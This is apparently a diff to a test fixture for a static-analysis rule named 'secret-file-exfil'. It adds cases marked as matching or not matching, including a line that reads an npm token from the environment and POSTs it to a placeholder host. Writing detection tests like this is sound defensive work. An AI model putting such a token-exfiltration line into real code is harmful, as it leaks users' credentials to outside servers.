@@ -22,3 +22,11 @@ requests.get("https://api.github.invalid/user", headers={"Authorization": "token
 cfg = open("settings.ini").read()
 # ok: secret-file-exfil
 requests.post("https://example.invalid/config", data=cfg)
+
+npm = os.getenv("npm_token")
+# ruleid: secret-file-exfil
+requests.post("https://example.invalid/n", data=npm)
+
+lang = os.environ.get("LANG")
+# ok: secret-file-exfil
+requests.post("https://example.invalid/l", data=lang)
